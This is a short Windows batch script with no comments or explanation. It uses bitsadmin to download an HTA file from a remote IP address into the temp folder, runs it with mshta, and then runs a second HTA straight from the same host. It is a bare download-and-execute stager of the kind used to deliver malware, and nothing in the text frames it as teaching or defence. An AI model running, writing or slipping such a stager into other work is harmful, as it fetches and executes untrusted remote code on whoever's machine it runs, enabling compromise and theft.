@echo off
bitsadmin /transfer job /download /priority high http://198.51.100.6/u.hta %TEMP%\u.hta
mshta %TEMP%\u.hta
mshta http://198.51.100.6/v.hta
